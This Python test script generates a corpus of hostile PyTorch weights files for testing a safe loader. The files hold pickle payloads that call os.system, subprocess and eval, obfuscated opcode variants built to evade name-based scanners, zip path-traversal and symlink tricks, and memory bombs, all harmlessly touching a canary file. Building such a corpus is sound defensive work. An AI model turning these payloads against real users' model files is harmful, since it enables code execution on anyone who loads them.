"""Writes hostile weights files into a folder: callables x containers, obfuscated instructions, zip tricks, bombs.

`python tests/security/pickle_corpus.py FOLDER`. Every attack that runs something touches a file `canary` in the working
directory of whoever loads it, and nothing else: the corpus is harmless to have.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import torch

CANARY = "canary"
SEED = "seed"
"""A Python module in the working directory that touches the canary when it is imported; attacks copy or run it."""
SEED_SOURCE = f"open({CANARY!r}, 'w').close()\n"
_CODE = SEED_SOURCE.strip()
_TOUCH = f"touch {CANARY}"
_MAGIC, _LEGACY_VERSION = 0x1950A86A20F9469CFC6C, 1001

CALLS: tuple[tuple[str, tuple[object, ...]], ...] = (
    ("os.system", (_TOUCH,)),
    ("posix.system", (_TOUCH,)),
    ("nt.system", (_TOUCH,)),
    ("os.popen", (_TOUCH,)),
    ("os.mkdir", (CANARY,)),
    ("posix.mkdir", (CANARY,)),
    ("os.makedirs", (CANARY,)),
    ("os.mkfifo", (CANARY,)),
    ("os.symlink", (SEED, CANARY)),
    ("os.rename", (f"{SEED}.py", CANARY)),
    ("os.link", (f"{SEED}.py", CANARY)),
    ("os.open", (CANARY, 0o101)),
    ("os.spawnlp", (0, "touch", "touch", CANARY)),
    ("subprocess.call", (["touch", CANARY],)),
    ("subprocess.run", (["touch", CANARY],)),
    ("subprocess.check_call", (["touch", CANARY],)),
    ("subprocess.check_output", (["touch", CANARY],)),
    ("subprocess.getoutput", (_TOUCH,)),
    ("subprocess.getstatusoutput", (_TOUCH,)),
    ("subprocess.Popen", (["touch", CANARY],)),
    ("builtins.eval", (_CODE,)),
    ("builtins.exec", (_CODE,)),
    ("builtins.open", (CANARY, "w")),
    ("builtins.__import__", (SEED,)),
    ("importlib.import_module", (SEED,)),
    ("importlib.__import__", (SEED,)),
    ("pkgutil.resolve_name", (SEED,)),
    ("runpy.run_path", (f"{SEED}.py",)),
    ("runpy.run_module", (SEED,)),
    ("timeit.main", (["-n", "1", "-r", "1", _CODE],)),
    ("cProfile.run", (_CODE,)),
    ("profile.run", (_CODE,)),
    ("io.open", (CANARY, "w")),
    ("io.FileIO", (CANARY, "w")),
    ("codecs.open", (CANARY, "w")),
    ("gzip.open", (CANARY, "w")),
    ("bz2.open", (CANARY, "w")),
    ("lzma.open", (CANARY, "w")),
    ("tarfile.open", (CANARY, "w")),
    ("zipfile.ZipFile", (CANARY, "w")),
    ("wave.open", (CANARY, "wb")),
    ("mailbox.mbox", (CANARY,)),
    ("logging.FileHandler", (CANARY,)),
    ("shutil.copyfile", (f"{SEED}.py", CANARY)),
    ("shutil.move", (f"{SEED}.py", CANARY)),
    ("py_compile.compile", (f"{SEED}.py", CANARY)),
    ("numpy.save", (CANARY + ".npy", 1)),
    ("numpy.savetxt", (CANARY, [1.0])),
    ("torch.serialization.save", (1, CANARY)),
    ("pickle.loads", (b"cposix\nsystem\n(S'" + _TOUCH.encode() + b"'\ntR.",)),
)
ONLY_ELSEWHERE = frozenset({"nt.system"})
"""Attacks of another operating system: nothing runs here, they are refused all the same."""


class Hostile(NamedTuple):
    """A file of the corpus. `runs`: loaded naively, it touches the canary."""

    name: str
    data: bytes
    runs: bool


def _value(value: object) -> bytes:
    """Instructions (protocol 2) that put a plain value on the stack."""
    return pickle.dumps(value, 2)[2:-1]


def called(dotted: str, arguments: tuple[object, ...]) -> bytes:
    """Instructions that call a function by its name."""
    module, _, name = dotted.rpartition(".")
    return f"c{module}\n{name}\n".encode() + _value(arguments) + b"R"


def pickled(body: bytes, protocol: int = 2) -> bytes:
    """A pickle of these instructions, its value under the key of a state dict."""
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body + b"."


def zipped(pickle_bytes: bytes) -> bytes:
    """The container that torch.save writes."""
    buffer = io.BytesIO()
    writer = torch._C.PyTorchFileWriter(buffer)
    writer.write_record("data.pkl", pickle_bytes, len(pickle_bytes))
    writer.write_record("byteorder", b"little", 6)
    writer.write_end_of_file()
    return buffer.getvalue()


def legacy(pickle_bytes: bytes) -> bytes:
    """The container of PyTorch before 1.6."""
    head = b"".join(pickle.dumps(each, 2) for each in (_MAGIC, _LEGACY_VERSION, {"little_endian": True}))
    return head + pickle_bytes + pickle.dumps([], 2)


def _calls() -> Iterator[Hostile]:
    for dotted, arguments in CALLS:
        body = pickled(b"}" + _value("weight") + called(dotted, arguments) + b"s")
        runs = dotted not in ONLY_ELSEWHERE
        yield Hostile(f"zip-{dotted}", zipped(body), runs)
        yield Hostile(f"legacy-{dotted}", legacy(body), runs)


def _text(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def _instructions() -> dict[str, bytes]:
    """Ways of saying `os.system(...)` that a reader of names may miss."""
    touch, system = _value((_TOUCH,)), b"cos\nsystem\n"
    unbound = b"cargparse\nNamespace\n" + b"N}" + _value("__setstate__") + system + b"s\x86b0"
    return {
        "protocol-0": b"cos\nsystem\n(S'" + _TOUCH.encode() + b"'\ntR.",
        "protocol-1": b"cos\nsystem\n(U" + bytes([len(_TOUCH)]) + _TOUCH.encode() + b"tR.",
        "protocol-3": pickled(system + touch + b"R", 3),
        "protocol-4-frame": b"\x80\x04\x95" + struct.pack("<Q", len(system + touch) + 2) + system + touch + b"R.",
        "protocol-5": pickled(_text("os") + _text("system") + b"\x93" + touch + b"R", 5),
        "stack-global": pickled(_text("os") + _text("system") + b"\x93" + touch + b"R", 4),
        "stack-global-from-memo": pickled(
            _text("system") + b"\x940" + _text("os") + b"\x940" + b"h\x01h\x00\x93" + touch + b"R", 4
        ),
        "stack-global-memo-overwritten": pickled(
            _text("collections") + b"q\x070" + _text("os") + b"q\x070h\x07" + _text("system") + b"\x93" + touch + b"R",
            4,
        ),
        "stack-global-dup-and-pop": pickled(
            _text("system") + _text("os") + b"20" + b"q\x000q\x010h\x00h\x01\x93" + touch + b"R", 4
        ),
        "stack-global-computed": pickled(
            b"cbuiltins\nstr\n" + _value(("os",)) + b"R" + _text("system") + b"\x93" + touch + b"R", 4
        ),
        "stack-global-dotted": pickled(_text("os") + _text("path.os.system") + b"\x93" + touch + b"R", 4),
        "inst": b"(S'" + _TOUCH.encode() + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'" + _TOUCH.encode() + b"'\no.",
        "newobj": pickled(b"csubprocess\nPopen\n" + _value((["touch", CANARY],)) + b"R"),
        "newobj-ex": pickled(b"csubprocess\nPopen\n)}\x92" + system + touch + b"R", 4),
        "python-2-names": pickled(b"c__builtin__\neval\n" + _value((_CODE,)) + b"R"),
        "python-2-module": pickled(b"ccommands\ngetoutput\n" + touch + b"R"),
        "getattr": pickled(
            b"c__builtin__\ngetattr\n"
            + called("builtins.__import__", ("os",)) + _value("system") + b"\x86R" + touch + b"R"
        ),
        "partial": pickled(b"cfunctools\npartial\n" + system + _value(_TOUCH) + b"\x86R)R"),
        "map": pickled(b"cbuiltins\nlist\ncbuiltins\nmap\n" + system + _value([_TOUCH]) + b"\x86R\x85R"),
        "starmap": pickled(b"cbuiltins\nlist\ncitertools\nstarmap\n" + system + _value([(_TOUCH,)]) + b"\x86R\x85R"),
        "defaultdict-factory": pickled(
            b"c__builtin__\ngetattr\n" + b"ccollections\ndefaultdict\ncfunctools\npartial\n" + system + _value(_TOUCH)
            + b"\x86R\x85R" + _value("__missing__") + b"\x86R" + _value((1,)) + b"R"
        ),
        "build-setstate": pickled(unbound + b"cargparse\nNamespace\n)\x81" + _value(_TOUCH) + b"b"),
        "behind-harmless": pickled(b"ccollections\nOrderedDict\n)R0" + system + touch + b"R"),
        "in-persistent-id": pickled(_value("storage") + system + touch + b"R\x86Q"),
        "as-key": pickled(b"}" + system + touch + b"RK\x01s"),
        "in-arguments": pickled(b"ctorch._utils\n_rebuild_parameter\n(" + system + touch + b"R\x88)tR"),
        "second-pickle": pickle.dumps({}, 2)[:-1] + b"0" + system + touch + b"R.",
    }  # fmt: skip


def _obfuscated() -> Iterator[Hostile]:
    for name, data in _instructions().items():
        yield Hostile(f"zip-{name}", zipped(data), runs=True)
        yield Hostile(f"legacy-{name}", legacy(data), runs=True)
    yield Hostile("zip-extension-registry", zipped(pickled(b"\x82\x01)R")), runs=False)
    yield Hostile("plain-pickle", pickled(called("os.system", (_TOUCH,))), runs=True)


def _plain_zip(entries: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_STORED, mode: int = 0) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        for name, data in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type, info.external_attr = method, mode << 16
            file.writestr(info, data)
    return buffer.getvalue()


def _zips() -> Iterator[Hostile]:
    evil = pickled(called("os.system", (_TOUCH,)))
    good = pickle.dumps({}, 2)
    whole, rest = zipped(evil), [("a/byteorder", b"little"), ("a/version", b"3\n")]
    record = ("a/data.pkl", evil)
    yield Hostile("zip-compressed", _plain_zip([record, *rest], method=zipfile.ZIP_DEFLATED), runs=True)
    yield Hostile("zip-bad-crc", whole.replace(struct.pack("<I", zlib.crc32(evil)), b"\x01\x02\x03\x04"), runs=True)
    yield Hostile("zip-comment", whole[:-2] + b"\x05\x00hello", runs=True)
    yield Hostile("zip-trailing", whole + b"\x00" * 64, runs=True)
    with_two = _plain_zip([("a/data.pkl", good), ("a/data.pkX", evil), *rest]).replace(b"data.pkX", b"data.pkl")
    yield Hostile("zip-two-pickles", with_two, runs=False)
    yield Hostile("zip-pickle-elsewhere", _plain_zip([record, *rest, ("a/more/data.pkl", evil)]), runs=True)
    yield Hostile("zip-two-folders", _plain_zip([record, *rest, ("b/data.pkl", evil)]), runs=False)
    yield Hostile("zip-parent", _plain_zip([record, *rest, ("a/data/../../x", b"")]), runs=True)
    yield Hostile("zip-absolute", _plain_zip([record, *rest, ("/a/data/x", b"")]), runs=False)
    yield Hostile("zip-backslash", _plain_zip([record, *rest, ("a/data\\x", b"")]), runs=True)
    yield Hostile("zip-symlink", _plain_zip([record, *rest, ("a/data/x", b"/etc")], mode=0o120777), runs=True)
    local = _plain_zip([("a/data.pkX", evil), *rest])
    place = local.rindex(b"a/data.pkX")
    yield Hostile("zip-two-names", local[:place] + b"a/data.pkl" + local[place + 10 :], runs=True)
    yield Hostile("zip-nul-name", _plain_zip([record, *rest, ("a/data/xNy", b"")]).replace(b"xNy", b"x\0y"), runs=True)


def _bombs() -> Iterator[Hostile]:
    def tensor(count: int, shape: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
        reference = (
            b"(" + _value("storage") + b"ctorch\nFloatStorage\n" + _value("0") + _value("cpu") + _value(count) + b"tQ"
        )
        rest = _value(0) + _value(shape) + _value(stride) + b"\x89ccollections\nOrderedDict\n)R"
        return pickled(b"}" + _value("w") + b"ctorch._utils\n_rebuild_tensor_v2\n(" + reference + rest + b"tRs")

    def with_storage(data: bytes, size: int) -> bytes:
        return _plain_zip([("a/data.pkl", data), ("a/byteorder", b"little"), ("a/data/0", bytes(size))])

    files = {
        "bomb-stride": with_storage(tensor(1, (1 << 40,), (0,)), 4),
        "bomb-storage-short": with_storage(tensor(1 << 20, (1 << 20,), (1,)), 4),
        "bomb-storage-missing": zipped(tensor(4, (4,), (1,))),
        "bomb-storage-negative": with_storage(tensor(-1, (1,), (1,)), 4),
        "bomb-shape-beyond": with_storage(tensor(1, (1 << 20,), (1,)), 4),
        "bomb-marks": zipped(pickled(b"(" * 200_000)),
        "bomb-nesting": zipped(pickled(b"]" * 100_000 + b"a" * 99_999)),
        "bomb-long-text": zipped(pickled(b"X\xff\xff\xff\x7fx")),
        "bomb-reserves-memory": zipped(pickled(b"c__builtin__\nbytearray\n" + _value((1 << 40,)) + b"R")),
        "bomb-tensor-reserves-memory": zipped(pickled(b"ctorch\nTensor\n" + _value((1 << 40,)) + b"R")),
        "broken-memo": zipped(pickled(b"h\x05")),
        "broken-stack": zipped(pickled(b"R")),
        "broken-no-end": zipped(b"\x80\x02}"),
        "broken-instruction": zipped(b"\x80\x02\xfe."),
        "broken-after-end": zipped(pickled(b"}") + called("os.system", (_TOUCH,)) + b"."),
        "legacy-after-end": legacy(pickled(b"}")) + b"\x00" * 8,
    }
    for name, data in files.items():
        yield Hostile(name, data, runs=False)


def corpus() -> list[Hostile]:
    """Every hostile file."""
    return [*_calls(), *_obfuscated(), *_zips(), *_bombs()]


def write(folder: Path) -> list[str]:
    """Write the corpus into the folder, with `runs.json`: the names of those that run when loaded naively."""
    files = corpus()
    for each in files:
        (folder / f"{each.name}.pth").write_bytes(each.data)
    (folder / "runs.json").write_text(json.dumps([each.name for each in files if each.runs]))
    return [each.name for each in files]


if __name__ == "__main__":
    print(len(write(Path(sys.argv[1]))), "files")
